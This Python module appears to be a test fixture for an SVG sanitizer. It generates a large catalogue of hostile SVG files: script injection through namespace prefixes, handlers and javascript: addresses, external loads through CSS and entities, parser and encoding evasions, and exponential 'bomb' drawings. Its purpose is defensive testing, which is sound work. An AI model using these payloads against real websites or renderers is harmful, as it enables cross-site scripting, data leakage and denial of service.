"""Attack drawings, made when they are asked for: each would run script, load a file, or pose as a page if it could.

``{base}`` is where a beacon listens, a folder of its own for each drawing; anything that asks there got through.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

SVG = "http://www.w3.org/2000/svg"
XHTML = "http://www.w3.org/1999/xhtml"
XLINK = "http://www.w3.org/1999/xlink"
RUN = "(new Image().src='{base}run')"


def attacks(base: str) -> Iterator[tuple[str, bytes]]:
    """Yield (name, bytes) of every attack drawing; the beacon of number n is at ``base``n/."""
    texts = {**_prefixes(), **_elements(), **_addresses(), **_styles(), **_syntax()}
    for number, (name, text) in enumerate(texts.items()):
        yield name, text.replace("{base}", f"{base}{number}/").encode()
    for number, (name, data) in enumerate(_encodings(), len(texts)):
        yield name, data.replace(b"{base}", f"{base}{number}/".encode())


def bombs() -> dict[str, str]:
    """Return drawings that are small to read and endless to draw."""
    levels = 24
    uses = "".join(f'<g id="l{n}"><use href="#l{n - 1}"/><use href="#l{n - 1}"/></g>' for n in range(1, levels))
    patterns = "".join(
        f'<pattern id="p{n}" width="2" height="2" patternUnits="userSpaceOnUse">'
        + f'<rect width="1" height="1" fill="url(#p{n - 1})"/>' * 12
        + "</pattern>"
        for n in range(1, 9)
    )
    by_class = "".join(
        f'<pattern id="q{n}" width="2" height="2">'
        + f'<rect class="c{n - 1}" width="1" height="1"/>' * 12
        + "</pattern>"
        for n in range(1, 9)
    )
    rules = "".join(f".c{n}{{fill:url(#q{n})}}" for n in range(9))
    line = "M" + " ".join(f"{n} {n % 7}" for n in range(1000))
    markers = (
        f'<marker id="m1"><path d="{line}"/></marker><marker id="m2"><path d="{line}" marker-mid="url(#m1)"/></marker>'
        f'<path d="{line}" marker-mid="url(#m2)"/>'
    )
    chain = "".join(f'<g id="c{n}"><use href="#c{n - 1}"/></g>' for n in range(1, 2000))
    return {
        "uses": _svg(f'<g id="l0"><rect width="1" height="1"/></g>{uses}<use href="#l{levels - 1}"/>'),
        "patterns": _svg(f'<rect id="p0"/>{patterns}<rect width="9" height="9" fill="url(#p8)"/>'),
        "patterns by class": _svg(f"<style>{rules}</style>{by_class}" + '<rect class="c8" width="9" height="9"/>'),
        "markers": _svg(markers),
        "a chain": _svg(f'<g id="c0"/>{chain}'),
        "depth": _svg("<g>" * 300 + "</g>" * 300),
        "elements": _svg("<g/>" * 60_000),
        "entities": f'<!DOCTYPE svg [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>{_svg("<text>&c;</text>")}',
        "size": _svg("<text>" + "x" * (2 * 1024 * 1024) + "</text>"),
    }


def _svg(inner: str, attributes: str = "") -> str:
    return (
        f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" xmlns:h="{XHTML}" width="200" height="100" {attributes}>{inner}'
        '<rect width="200" height="100" fill="green"/></svg>'
    )


def _prefixes() -> dict[str, str]:
    """Return drawings that bind a known or unknown prefix, or none, to a namespace that acts."""
    found = {}
    for prefix in ("i", "rdf", "cc", "serif", "inkscape", "sodipodi", "dc", "sketch", "figma", "bx"):
        found[f"script as {prefix}"] = _svg(f'<{prefix}:script xmlns:{prefix}="{SVG}">{RUN}</{prefix}:script>')
    for prefix in ("i", "rdf", "metadata", "svg"):
        for name, inner in {
            "script": f"<{prefix}:script>{RUN}</{prefix}:script>",
            "frame": f'<{prefix}:iframe src="{{base}}frame"/>',
            "picture": f'<{prefix}:img src="{{base}}img" onerror="{RUN}"/>',
            "style sheet": f'<{prefix}:link rel="stylesheet" href="{{base}}sheet"/>',
        }.items():
            found[f"XHTML {name} as {prefix}"] = _svg(f'<g xmlns:{prefix}="{XHTML}">{inner}</g>')
    found["default namespace changed"] = _svg(f'<g><div xmlns="{XHTML}"><script>{RUN}</script></div></g>')
    found["default namespace changed back"] = _svg(
        f'<foreignObject><div xmlns="{XHTML}"><svg xmlns="{SVG}"><script>{RUN}</script></svg></div></foreignObject>'
    )
    found["root by prefix"] = f'<i:svg xmlns:i="{SVG}" width="9" height="9"><i:script>{RUN}</i:script></i:svg>'
    found["namespace by reference"] = _svg(f'<i:script xmlns:i="http&#58;//www.w3.org/2000/svg">{RUN}</i:script>')
    found["events namespace"] = _svg(
        f'<e:listener xmlns:e="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><handler id="h">{RUN}</handler>'
    )
    found["template language"] = _svg(
        f'<x:template xmlns:x="http://www.w3.org/1999/XSL/Transform"><h:script>{RUN}</h:script></x:template>'
    )
    return found


def _elements() -> dict[str, str]:
    """Return drawings with elements and attributes that act."""
    found = {
        f"handler {name}": _svg(f'<rect width="9" height="9" {name}="{RUN}"/>', f'{name}="{RUN}"')
        for name in ("onload", "onclick", "onbegin", "onfocusin", "ONLOAD", "onpointerenter")
    }
    holders = ("desc", "title", "metadata", "foreignObject", "switch", "text", "a", "defs", "symbol")
    found |= {f"script in {name}": _svg(f"<{name}><h:script>{RUN}</h:script><script>{RUN}</script></{name}>")
              for name in holders}  # fmt: skip
    found |= {
        "script": _svg(f"<script>{RUN}</script>"),
        "script by address": _svg('<script href="{base}script"/><script xlink:href="data:text/javascript,top.ran=1"/>'),
        "script in CDATA": _svg(f"<script><![CDATA[{RUN}]]></script>"),
        "frame in foreignObject": _svg('<foreignObject width="9" height="9"><h:iframe src="{base}frame"/></foreignObject>'),
        "page in a frame": _svg(f'<foreignObject><h:iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"/></foreignObject>'),
        "embeds": _svg('<foreignObject><h:embed src="{base}e"/><h:object data="{base}o"/><h:audio src="{base}a" autoplay="1"/>'
                       '<h:video poster="{base}v"/></foreignObject>'),
        "picture with handler": _svg(f'<foreignObject><h:img src="{{base}}i" onerror="{RUN}"/></foreignObject>'),
        "meta refresh": _svg('<h:meta http-equiv="refresh" content="0;url={base}meta"/>'),
        "base": _svg('<h:base href="{base}"/><image href="b.png" width="9" height="9"/>'),
        "form": _svg('<foreignObject><h:form action="{base}f"><h:input autofocus="1" onfocus="' + RUN + '"/></h:form></foreignObject>'),
        "set a handler": _svg(f'<rect width="9" height="9"><set attributeName="onmouseover" to="{RUN}"/></rect>'),
        "animate an address": _svg(
            '<a><animate attributeName="href" values="javascript:top.ran=1" begin="0s"/><rect width="9" height="9"/></a>'
            '<image width="9" height="9"><animate attributeName="href" to="{base}anim" begin="0s" fill="freeze"/></image>'),
        "animate by another": _svg('<image id="t" width="9" height="9"/><animate href="#t" attributeName="href" to="{base}other"/>'),
        "discard": _svg(f'<discard begin="0s" onend="{RUN}"/>'),
        "audio and canvas": _svg('<audio href="{base}audio"/><video href="{base}video"/><iframe href="{base}if"/>'),
        "font": _svg('<font-face font-family="f"><font-face-src><font-face-uri xlink:href="{base}font"/></font-face-src>'
                     '</font-face><text font-family="f">a</text>'),
        "cursor": _svg('<cursor id="c" xlink:href="{base}cursor"/><rect width="9" height="9" cursor="url({base}cur),auto"/>'),
        "custom element": _svg(f'<foreignObject><h:div is="x-y"><x-y xmlns="{XHTML}">{RUN}</x-y></h:div></foreignObject>'),
    }  # fmt: skip
    return found


def _addresses() -> dict[str, str]:
    """Return drawings with addresses that run or load."""
    scripts = (
        "javascript:top.ran=1", "JaVaScRiPt:top.ran=1", "java&#9;script:top.ran=1", "java&#10;script:top.ran=1",
        "&#32;javascript:top.ran=1", "javascript&#58;top.ran=1", "data:text/html,&lt;script>top.ran=1&lt;/script>",
        "vbscript:x",
    )  # fmt: skip
    found = {}
    for number, address in enumerate(scripts):
        for name in ("href", "xlink:href"):
            found[f"link {name} {number}"] = _svg(f'<a {name}="{address}"><rect width="200" height="100"/></a>')
    inner = base64.b64encode(_svg(f"<script>{RUN}</script>", f'onload="{RUN}"').encode()).decode()
    found |= {
        "picture from outside": _svg('<image href="{base}a.png" width="9" height="9"/>'),
        "picture by xlink": _svg('<image xlink:href="{base}b.png" width="9" height="9"/>'),
        "both addresses": _svg('<image href="data:image/png;base64,AA==" xlink:href="{base}c.png" width="9" height="9"/>'),
        "feImage": _svg('<filter id="f"><feImage href="{base}fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'),
        "use from outside": _svg('<use href="{base}use.svg#a"/><use xlink:href="{base}use2.svg#a"/>'),
        "use a data address": _svg(f'<use href="data:image/svg+xml;base64,{inner}#a"/>'),
        "drawing inside": _svg(f'<image href="data:image/svg+xml;base64,{inner}" width="99" height="99"/>'),
        "drawing inside, not encoded": _svg(
            f"<image href='data:image/svg+xml,%3Csvg xmlns=%22{SVG}%22 onload=%22top.ran=1%22/%3E' width='9' height='9'/>"),
        "page as a picture": _svg('<image href="data:text/html,&lt;script>top.ran=1&lt;/script>" width="9" height="9"/>'),
        "gradient from outside": _svg('<linearGradient href="{base}g.svg#g" id="g"/><rect width="9" height="9" fill="url(#g)"/>'),
        "paint from outside": _svg('<rect width="9" height="9" fill="url({base}p.svg#p)" filter="url({base}f.svg#f)"/>'),
        "mask from outside": _svg('<rect width="9" height="9" mask="url(\'{base}m.svg#m\')" clip-path="url( {base}c.svg#c )"/>'),
        "marker from outside": _svg('<path d="M0 0L9 9" marker-end="url({base}mk.svg#m)"/>'),
        "xml:base": _svg('<g xml:base="{base}"><image href="x.png" width="9" height="9"/><use href="#a"/></g>'),
        "text path": _svg('<text><textPath href="{base}t.svg#t">a</textPath></text>'),
        "ping": _svg('<a href="https://example.com" ping="{base}ping"><rect width="9" height="9"/></a>'),
        "srcset": _svg('<foreignObject><h:img srcset="{base}s 1x"/><h:picture><h:source srcset="{base}s2"/></h:picture></foreignObject>'),
    }  # fmt: skip
    return found


def _styles() -> dict[str, str]:
    """Return drawings whose style would load something."""
    sheets = {
        "import": "@import '{base}i.css';",
        "import url": "@import url({base}i.css);",
        "import escaped": "@\\69mport '{base}i.css';",
        "import after a comment": "/**/@import/**/'{base}i.css';",
        "import after HTML": "<![CDATA[<!-- @import '{base}i.css'; -->]]>",
        "url": "rect{fill:url({base}a.svg#a);background:url('{base}b.png')}",
        "url escaped": "rect{background-image:\\75\\72\\6c({base}c.png)}",
        "url in upper case": "rect{background-image:URL( {base}d.png )}",
        "image-set": "rect{background-image:image-set('{base}e.png' 1x);mask-image:-webkit-image-set('{base}f.png' 1x)}",
        "image-set escaped": "rect{background-image:im\\61ge-set('{base}g.png' 1x)}",
        "src": "rect{background-image:src('{base}h.png')}",
        "image": "rect{background-image:image('{base}j.png');content:element(#a)}",
        "cross-fade": "rect{background-image:-webkit-cross-fade(url({base}k.png),url({base}l.png),50%)}",
        "font": "@font-face{font-family:f;src:url({base}f.woff2)} text{font-family:f}",
        "variable": ":root{--u:url({base}m.png)} rect{background:var(--u)}",
        "namespace": "@namespace url({base}ns); rect{fill:red}",
        "nested": "@media all{@supports (fill:red){rect{background:url({base}n.png)}}}",
        "expression": "rect{width:expression(top.ran=1);behavior:url({base}o.htc);-moz-binding:url({base}p.xml#a)}",
        "open string": "rect{content:'\n}@import '{base}q.css';",
        "open comment": "/* @import '{base}r.css'; */*/@import '{base}s.css';",
        "open block": "rect{fill:red;@import '{base}t.css';",
        "cursor": "*{cursor:url({base}u.cur),auto}",
        "list": "*{list-style-image:url({base}v.png);border-image:url({base}w.png)}",
    }  # fmt: skip
    found = {f"sheet with {name}": _svg(f"<style>{sheet}</style><text>a</text>") for name, sheet in sheets.items()}
    found |= {
        "sheet split by an element": _svg("<style>@imp<g/>ort '{base}1.css';</style>"),
        "sheet split by a comment": _svg("<style>@imp<!-- x -->ort '{base}2.css';</style>"),
        "sheet split by CDATA": _svg("<style>@imp<![CDATA[ort ']]>{base}3.css';</style>"),
        "XHTML sheet": _svg("<h:style>@import '{base}4.css';</h:style>"),
        "sheet by prefix": _svg(f"<i:style xmlns:i='{SVG}'>@import '{{base}}5.css';</i:style>"),
        "sheet of a medium": _svg("<style media='all{}@import \"{base}6.css\";'>rect{fill:red}</style>"),
        "attribute": _svg("<rect width='9' height='9' style='background:url({base}7.png);fill:url({base}8.svg#a)'/>"),
        "attribute with a block": _svg("<rect style='fill:red}@import \"{base}9.css\";{'/>"),
        "escaped attribute": _svg("<rect style='background:\\75rl({base}10.png)' fill='\\75rl({base}11.svg#a)'/>"),
        "label's style": _svg("<foreignObject width='99' height='99'><h:div style='background:url({base}12.png)'>a</h:div></foreignObject>"),
        "label's old attribute": _svg("<foreignObject width='99' height='99'><h:table background='{base}13.png'><h:tr><h:td>a</h:td></h:tr></h:table></foreignObject>"),
    }  # fmt: skip
    return found


def _syntax() -> dict[str, str]:
    """Return drawings that hide what they are from a parser."""
    plain = _svg(f"<script>{RUN}</script>")
    return {
        "style sheet instruction": '<?xml-stylesheet href="{base}x.css"?>' + plain,
        "transformation": '<?xml-stylesheet type="text/xsl" href="{base}x.xsl"?>' + plain,
        "document type": '<!DOCTYPE svg SYSTEM "{base}x.dtd">' + plain,
        "entity": f'<!DOCTYPE svg [<!ENTITY x "&#60;script>top.ran=1&#60;/script>">]>{_svg("&x;")}',
        "outside entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{{base}}x.ent">]>{_svg("&x;")}',
        "parameter entity": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{{base}}p.ent"> %x;]>{_svg("")}',
        "default attribute": f'<!DOCTYPE svg [<!ATTLIST rect onclick CDATA "top.ran=1">]>{_svg("<rect/>")}',
        "a page": "<!doctype html><script>top.ran=1</script>",
        "a page as XML": f'<html xmlns="{XHTML}"><script>top.ran=1</script></html>',
        "no namespace": "<svg><script>top.ran=1</script></svg>",
        "after the end": plain + "<script>top.ran=1</script>",
        "text that ends CDATA": _svg("<text>]]&gt;&lt;script>top.ran=1&lt;/script></text>"),
        "class that ends an attribute": _svg('<rect class="&quot;/>&lt;script>top.ran=1&lt;/script>" id="&quot; onload=&quot;x"/>'),
        "style that ends its element": _svg("<style>a::before{content:'&lt;/style>&lt;script>top.ran=1&lt;/script>'}</style>"),
        "address that ends its attribute": _svg('<use href="#a&quot;/>&lt;script>top.ran=1&lt;/script>"/>'),
    }  # fmt: skip


def _encodings() -> Iterator[tuple[str, bytes]]:
    """Yield drawings that say one encoding and are another."""
    text = _svg(f"<script>{RUN}</script>")
    yield "UTF-16", text.replace("{base}", "http://127.0.0.1:9/").encode("utf-16")
    yield "UTF-16 without a mark", f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode()
    for name in ("UTF-7", "ISO-2022-JP", "EBCDIC-CP-US", "UTF-32", "rot13", "x-user-defined"):
        yield f"declared {name}", f'<?xml version="1.0" encoding="{name}"?>{text}'.encode()
    utf7 = "+ADw-script+AD4-top.ran=1+ADw-/script+AD4-"
    yield "UTF-7 text", f'<?xml version="1.0" encoding="UTF-7"?>{_svg(utf7)}'.encode()
    yield "two bytes for a bracket", _svg("<text>@</text>").encode().replace(b"@", b"\xc0\xbcscript\xc0\xbetop.ran=1")
    yield "mark in the middle", text.encode().replace(b"<script", b"\xef\xbb\xbf<script")
    yield "zero bytes", text.encode().replace(b"<script", b"<scr\0ipt")
